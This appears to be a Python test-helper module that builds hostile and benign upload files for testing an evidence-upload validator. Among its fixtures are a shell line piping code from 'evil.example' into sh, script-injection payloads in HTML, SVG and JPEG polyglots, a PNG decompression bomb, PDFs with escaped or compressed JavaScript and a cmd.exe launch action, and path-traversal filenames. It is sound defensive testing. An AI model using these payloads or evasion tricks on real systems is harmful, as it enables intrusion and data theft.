"""Builders for evidence files, good and hostile, made in memory (no binary fixtures).

Each builder returns the file's bytes. ``REFUSED_UPLOADS`` and ``ACCEPTED_POLYGLOTS`` list the
hostile corpus as (file name, builder) so a browser or HTTP test can upload the same files.
"""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from tests.helpers import videos
from tests.helpers.pdfs import pdf_of

HTML_PAYLOAD = b"<html><body><script>alert(document.cookie)</script></body></html>"
GPS_LATITUDE = (52.0, 31.0, 12.0)


# --- images ---------------------------------------------------------------------------------


def image_bytes(
    fmt: str = "JPEG",
    size: tuple[int, int] = (60, 40),
    mode: str = "RGB",
    color=(200, 30, 30),
    **save_options,
) -> bytes:
    image = Image.new(mode, size, color)
    if mode == "RGB" and size[0] >= 4:  # a mark in the top-left corner shows the rotation
        image.paste((0, 0, 255), (0, 0, size[0] // 4, size[1] // 4))
    out = io.BytesIO()
    image.save(out, fmt, **save_options)
    return out.getvalue()


def camera_exif(orientation: int = 6) -> Image.Exif:
    """EXIF as a phone writes it: orientation, camera make and a GPS position."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "TestCam"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (13.0, 24.0, 0.0)
    return exif


def jpeg(size: tuple[int, int] = (60, 40), **save_options) -> bytes:
    return image_bytes("JPEG", size, **save_options)


def jpeg_from_phone() -> bytes:
    """60×40 pixels stored sideways (orientation 6), with GPS, ICC, XMP and a comment."""
    return jpeg(
        exif=camera_exif(6),
        icc_profile=b"not really an ICC profile",
        xmp=b"<x:xmpmeta>creator: Jane Buyer</x:xmpmeta>",
        comment=b"taken at home",
    )


def png(size: tuple[int, int] = (60, 40), mode: str = "RGB", color=(200, 30, 30)) -> bytes:
    info = PngInfo()
    info.add_text("Comment", "written by Jane Buyer")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret</x:xmpmeta>")
    return image_bytes(
        "PNG", size, mode, color, pnginfo=info, exif=camera_exif(1), icc_profile=b"fake icc"
    )


def webp(size: tuple[int, int] = (60, 40)) -> bytes:
    return image_bytes("WEBP", size, exif=camera_exif(6), xmp=b"<x:xmpmeta>x</x:xmpmeta>")


def gif() -> bytes:
    return image_bytes("GIF", (20, 20), "P", 1)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def png_bomb(width: int = 10_000, height: int = 10_000) -> bytes:
    """A one-bit PNG of ``width × height`` white pixels: a few kilobytes on the wire, and
    width × height bytes of memory once a decoder expands it."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    compressed = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", compressed)
        + png_chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    data = jpeg((200, 200), quality=95)
    return data[: len(data) * 2 // 3]


def truncated_png() -> bytes:
    data = image_bytes("PNG", (200, 200), "RGB", (10, 200, 10))
    return data[: len(data) // 2]


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG with a web page after its end: a browser sniffing it may see HTML."""
    return jpeg() + HTML_PAYLOAD


def jpeg_with_html_comment() -> bytes:
    return jpeg(comment=HTML_PAYLOAD)


# --- PDF ------------------------------------------------------------------------------------


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_from_image() -> bytes:
    """A scanned document, as Pillow writes it."""
    return image_bytes("PDF", (120, 160))


def raw_pdf(catalog_extra: bytes = b"", page_count: int = 1, after_header: bytes = b"") -> bytes:
    """A hand-written PDF with a correct cross-reference table; ``catalog_extra`` is spliced
    into the catalog dictionary, ``after_header`` right after the ``%PDF-1.7`` line."""
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(page_count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % page_count,
    ] + [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * page_count
    return pdf_of(objects, after_header=after_header)


def pdf_with_html_head() -> bytes:
    return raw_pdf(after_header=b"%" + HTML_PAYLOAD + b"\n")


def pdf_with_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_hidden_javascript() -> bytes:
    """JavaScript whose names are #-escaped, so a byte search for "/JavaScript" misses it."""
    return raw_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def pdf_with_compressed_javascript(javascript: bool = True) -> bytes:
    """PDF 1.5: every object inside a deflated object stream, found through a cross-reference
    stream, so the JavaScript action never appears in the raw bytes. Without ``javascript``
    the action opens a web link instead, which is harmless."""
    action = (
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
        if javascript
        else b"<< /S /URI /URI (https://example.com/) >>"
    )
    inner = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        action,
    ]
    offsets, body = [], b""
    for obj in inner:
        offsets.append(len(body))
        body += obj + b"\n"
    index = b" ".join(b"%d %d" % (n, at) for n, at in enumerate(offsets, start=1)) + b"\n"
    packed = zlib.compress(index + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    object_stream_at = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        len(index),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    rows += [struct.pack(">BIH", 2, 5, n) for n in range(4)]
    rows += [struct.pack(">BIH", 1, object_stream_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\n" % len(table)
    out += b"stream\n" + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_with_launch_action() -> bytes:
    return raw_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_xfa_form() -> bytes:
    return raw_pdf(b"/AcroForm << /Fields [] /XFA [(template) (<xdp/>)] >>")


def pdf_truncated() -> bytes:
    data = pdf()
    return data[: len(data) // 2]


def pdf_without_eof() -> bytes:
    return pdf().replace(b"%%EOF", b"")


def pdf_encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_without_pages() -> bytes:
    return raw_pdf(page_count=0)


# --- video ----------------------------------------------------------------------------------


def mp4_box(kind: bytes, payload: bytes, *, large: bool = False, to_end: bool = False) -> bytes:
    if to_end:
        return struct.pack(">I", 0) + kind + payload
    if large:
        return struct.pack(">I", 1) + kind + struct.pack(">Q", 16 + len(payload)) + payload
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4_shape(brand: bytes = b"isom") -> bytes:
    """ftyp + moov (with only a movie header) + mdat: the top-level shape of an MP4 file, and
    no movie a player could read."""
    ftyp = mp4_box(b"ftyp", brand + struct.pack(">I", 512) + b"isomiso2avc1mp41")
    movie_header = (
        struct.pack(">IIIII", 0, 0, 0, 1000, 0)  # version+flags, created, modified, scale, length
        + struct.pack(">IH", 0x00010000, 0x0100)  # rate 1.0, volume 1.0
        + bytes(10)
        + struct.pack(">9I", 0x00010000, 0, 0, 0, 0x00010000, 0, 0, 0, 0x40000000)
        + bytes(24)
        + struct.pack(">I", 2)  # next track id
    )
    moov = mp4_box(b"moov", mp4_box(b"mvhd", movie_header))
    return ftyp + moov + mp4_box(b"mdat", bytes(range(64)))


def mp4(brand: bytes = b"isom", *, large_mdat: bool = False, mdat_to_end: bool = False) -> bytes:
    """A real MP4 video of ``brand``; its media data box, written by FFmpeg with a 32-bit
    size, may be given a 64-bit size instead (``large_mdat``: FFmpeg leaves an 8-byte ``free``
    box before it for that) or a size of 0, "to the end of the file" (``mdat_to_end``)."""
    data = bytearray(videos.video("mp4", metadata=False, faststart=mdat_to_end))
    data[8:12] = brand  # the major brand
    boxes = videos.top_level_boxes(bytes(data))
    kinds = [kind for kind, _, _ in boxes]
    mdat_at = kinds.index(b"mdat")
    _, offset, size = boxes[mdat_at]
    if large_mdat:
        free_kind, free_offset, free_size = boxes[mdat_at - 1]
        assert (free_kind, free_size) == (b"free", 8)
        data[free_offset : offset + 8] = (
            struct.pack(">I", 1) + b"mdat" + struct.pack(">Q", size + 8)
        )
    if mdat_to_end:
        assert mdat_at == len(boxes) - 1
        data[offset : offset + 4] = bytes(4)
    return bytes(data)


def mp4_truncated() -> bytes:
    return mp4()[:-10]


def mp4_with_trailing_garbage() -> bytes:
    return mp4() + HTML_PAYLOAD


def mp4_without_moov() -> bytes:
    return mp4_box(b"ftyp", b"isom" + bytes(4) + b"isom") + mp4_box(b"mdat", bytes(32))


def heic() -> bytes:
    """An ISO BMFF file of a brand we do not take (an iPhone photo)."""
    return mp4_shape(brand=b"heic")


def ebml_size(size: int, *, unknown: bool = False) -> bytes:
    if unknown:
        return b"\x01\xff\xff\xff\xff\xff\xff\xff"
    if size < 127:
        return bytes([0x80 | size])
    return b"\x01" + size.to_bytes(7, "big")


def ebml(element_id: bytes, payload: bytes) -> bytes:
    return element_id + ebml_size(len(payload)) + payload


def ebml_header(doc_type: bytes = b"webm") -> bytes:
    return ebml(
        b"\x1a\x45\xdf\xa3",
        ebml(b"\x42\x86", b"\x01")  # EBMLVersion
        + ebml(b"\x42\xf7", b"\x01")  # EBMLReadVersion
        + ebml(b"\x42\xf2", b"\x04")  # EBMLMaxIDLength
        + ebml(b"\x42\xf3", b"\x08")  # EBMLMaxSizeLength
        + ebml(b"\x42\x82", doc_type)
        + ebml(b"\x42\x87", b"\x04")  # DocTypeVersion
        + ebml(b"\x42\x85", b"\x02"),  # DocTypeReadVersion
    )


def webm_shape(doc_type: bytes = b"webm", *, unknown_size: bool = False) -> bytes:
    """An EBML header naming ``doc_type``, then a Segment holding only an Info element: the
    shape of a WebM file, with no track to play."""
    info = ebml(
        b"\x15\x49\xa9\x66",
        ebml(b"\x2a\xd7\xb1", (1_000_000).to_bytes(3, "big"))  # TimestampScale
        + ebml(b"\x4d\x80", b"tribunal-tests")  # MuxingApp
        + ebml(b"\x57\x41", b"tribunal-tests"),  # WritingApp
    )
    segment_id = b"\x18\x53\x80\x67"
    size = ebml_size(len(info), unknown=unknown_size)
    if not unknown_size:
        size = b"\x01" + len(info).to_bytes(7, "big")  # as muxers write it: 8 bytes
    return ebml_header(doc_type) + segment_id + size + info


def webm(doc_type: bytes = b"webm", *, unknown_size: bool = False) -> bytes:
    """A real WebM video behind an EBML header naming ``doc_type``; its Segment's size may be
    "unknown", as a live recording leaves it (``unknown_size``)."""
    data = videos.video("webm", metadata=False)
    header_size_length = 1  # FFmpeg writes the EBML header's size in one byte
    segment_at = 4 + header_size_length + data[4] - 0x80
    segment = bytearray(data[segment_at:])
    assert segment[:4] == b"\x18\x53\x80\x67" and segment[4] == 0x01  # an 8-byte size
    if unknown_size:
        segment[4:12] = ebml_size(0, unknown=True)
    return ebml_header(doc_type) + bytes(segment)


def webm_truncated() -> bytes:
    return webm()[:-5]


def webm_with_trailing_garbage() -> bytes:
    return webm() + HTML_PAYLOAD


# --- not evidence at all --------------------------------------------------------------------


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n" + HTML_PAYLOAD


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
        b'height="10"><script>alert(document.domain)</script></svg>'
    )


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", jpeg())
        archive.writestr("index.html", HTML_PAYLOAD)
    return out.getvalue()


def jpeg_named_zip_polyglot() -> bytes:
    """A ZIP archive with a JPEG's first bytes in front of it."""
    return jpeg()[:20] + zip_archive()


# --- the corpus -----------------------------------------------------------------------------

Builder = Callable[[], bytes]

# label → (file name as uploaded, builder); each must be refused
REFUSED_UPLOADS: dict[str, tuple[str, Builder]] = {
    "empty file": ("photo.jpg", lambda: b""),
    "shell script named .jpg": ("photo.jpg", shell_script),
    "HTML page named .pdf": ("invoice.pdf", html_page),
    "SVG with a script": ("drawing.svg", svg_with_script),
    "GIF": ("animation.gif", gif),
    "ZIP archive": ("photos.zip", zip_archive),
    "ZIP behind a JPEG's first bytes": ("photo.jpg", jpeg_named_zip_polyglot),
    "HEIC photo": ("IMG_0001.heic", heic),
    "truncated JPEG": ("photo.jpg", truncated_jpeg),
    "truncated PNG": ("photo.png", truncated_png),
    "PNG decompression bomb": ("bomb.png", png_bomb),
    "PDF with HTML in its first KiB": ("invoice.pdf", pdf_with_html_head),
    "PDF with JavaScript": ("invoice.pdf", pdf_with_javascript),
    "PDF with #-escaped JavaScript": ("invoice.pdf", pdf_with_hidden_javascript),
    "PDF with JavaScript in a compressed object stream": (
        "invoice.pdf",
        pdf_with_compressed_javascript,
    ),
    "PDF with a launch action": ("invoice.pdf", pdf_with_launch_action),
    "PDF with an embedded file": ("invoice.pdf", pdf_with_embedded_file),
    "PDF with an XFA form": ("invoice.pdf", pdf_with_xfa_form),
    "truncated PDF": ("invoice.pdf", pdf_truncated),
    "PDF without %%EOF": ("invoice.pdf", pdf_without_eof),
    "encrypted PDF": ("invoice.pdf", pdf_encrypted),
    "PDF without pages": ("invoice.pdf", pdf_without_pages),
    "truncated MP4": ("video.mp4", mp4_truncated),
    "MP4 with trailing garbage": ("video.mp4", mp4_with_trailing_garbage),
    "MP4 without a movie box": ("video.mp4", mp4_without_moov),
    "MP4 of the right shape without a movie": ("video.mp4", mp4_shape),
    "Matroska, not WebM": ("video.webm", lambda: webm(b"matroska")),
    "truncated WebM": ("video.webm", webm_truncated),
    "WebM with trailing garbage": ("video.webm", webm_with_trailing_garbage),
    "WebM of the right shape without a track": ("video.webm", webm_shape),
}

# valid images carrying a web page; accepted, and the stored copy must not carry it
ACCEPTED_POLYGLOTS: dict[str, tuple[str, Builder]] = {
    "JPEG followed by HTML": ("photo.jpg", jpeg_html_polyglot),
    "JPEG with HTML in a comment": ("photo.jpg", jpeg_with_html_comment),
}

# file names that must be refused, whatever the file
HOSTILE_FILENAMES: dict[str, str] = {
    "path traversal": "../../etc/passwd.jpg",
    "backslash traversal": "..\\..\\evil.jpg",
    "a folder": "photos/evil.jpg",
    "two dots": "photo..jpg",
    "NUL byte": "photo\x00.jpg",
    "terminal escape": "photo\x1b[31m.jpg",
    "right-to-left override": "invoice\u202egpj.exe",
    "zero-width space": "pho\u200bto.jpg",
    "300 characters": "x" * 296 + ".jpg",
    "leading dot": ".htaccess",
    "empty": "",
    "only spaces": "   ",
}

TRAVERSAL = 'The file name may not contain "/", "\\" or "..".'
INVISIBLE = "The file name contains control or invisible formatting characters."

# label → the start of the message the uploader reads beside the file field
FILENAME_MESSAGES: dict[str, str] = {
    "path traversal": TRAVERSAL,
    "backslash traversal": TRAVERSAL,
    "a folder": TRAVERSAL,
    "two dots": TRAVERSAL,
    "NUL byte": INVISIBLE,
    "terminal escape": INVISIBLE,
    "right-to-left override": INVISIBLE,
    "zero-width space": INVISIBLE,
    "300 characters": "The file name is longer than",
    "leading dot": 'The file name may not start with ".".',
    "empty": "Choose a file to upload.",  # a part without a name is no file at all
    "only spaces": "The file has no name.",
}
